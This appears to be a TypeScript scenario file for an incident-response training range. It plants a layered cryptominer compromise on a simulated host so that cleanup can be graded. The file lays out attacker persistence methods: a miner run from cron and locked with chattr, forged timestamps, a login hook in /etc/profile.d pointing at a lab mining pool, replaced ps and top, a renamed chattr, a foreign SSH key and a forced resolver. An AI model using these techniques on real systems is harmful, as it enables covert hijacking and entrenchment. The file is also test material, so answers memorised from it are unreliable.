// Everything at once, as kits do it: a locked miner with forged times that cron starts, a service that guards a second one with hooks and a drop-in, a line
// for every login, replaced ps and top, no chattr under its name, a foreign key that is locked, blocked names and a forced resolver.
import { renameSync } from 'node:fs'
import { join } from 'node:path'
import { run } from '../machine.ts'
import { world } from '../net.ts'
import { cronMiner } from './cron-miner.ts'
import { decoyFiles, decoyProcesses, plantDecoys } from './decoys.ts'
import { foreignKeyFile, plantForeignKey } from './foreign-key.ts'
import {
  guardDecoyFiles,
  guardDecoyProcesses,
  guardFolders,
  guardHostileFiles,
  guardProcesses,
  plantGuardService,
} from './guard-service.ts'
import { fakeWallet, untilMining } from './mining.ts'
import { plantBlockedNames, plantForcedResolver } from './names.ts'
import { put, putAside, stomp } from './plant.ts'
import { plantReplacedTools, replacedToolFiles } from './replaced-ps-top.ts'
import type { HostileFile, Scenario } from './scenario.ts'

const miner = cronMiner('/usr/lib/x86_64-linux-gnu/.icu', 'lab_icud', '/etc/cron.d/icu-data')
const atLogin = '/etc/profile.d/lab_icu.sh'

const hostileFiles: readonly HostileFile[] = [
  ...miner.files.map((file) => ({ ...file, flags: 'i' })),
  ...guardHostileFiles,
  ...replacedToolFiles,
  foreignKeyFile,
  { path: atLogin, remove: 'whole' },
  { path: '/usr/bin/chattr', remove: 'restored' },
  { path: '/usr/bin/lchattr', remove: 'whole' },
]

export const compound: Scenario = {
  name: 'compound',
  about:
    'cron, a guarding service, every login, replaced and renamed tools, locks, forged times, a foreign key, blocked names and a forced resolver',
  plant: async (host) => {
    await plantDecoys(host)
    await miner.plant(host)
    await plantGuardService(host)
    put(
      host,
      atLogin,
      `${miner.payload} -B -o stratum+tcp://pool.range.test:${world.poolPort} -u ${fakeWallet} -p x >/dev/null 2>&1\n`,
      { daysOld: 0 },
    )
    plantReplacedTools(host)
    plantForcedResolver(host)
    plantBlockedNames(host)
    plantForeignKey(host)
    for (const { path } of [...miner.files, { path: atLogin }]) stomp(host, path)
    for (const { path } of miner.files) run(['chattr', '+i', '--', join(host.dir, path)])
    putAside(host, '/usr/bin/chattr')
    renameSync(join(host.dir, 'usr/bin/chattr'), join(host.dir, 'usr/bin/lchattr'))
    await untilMining(host, compound)
  },
  hostileFiles,
  dormantFiles: [],
  attackerFolders: [miner.folder, ...guardFolders, '/etc/systemd/system/ssh.service.requires'],
  hostileProcesses: [...miner.processes, ...guardProcesses],
  decoyFiles: [...decoyFiles, ...guardDecoyFiles],
  decoyProcesses: [...decoyProcesses, ...guardDecoyProcesses],
  revivePeriod: 60,
  expectedUndoFiles: hostileFiles.map(({ path }) => path),
  route: { proposed: ['process', 'schedule', 'unit', 'startup', 'binary', 'key', 'file'], advised: ['name'] },
}
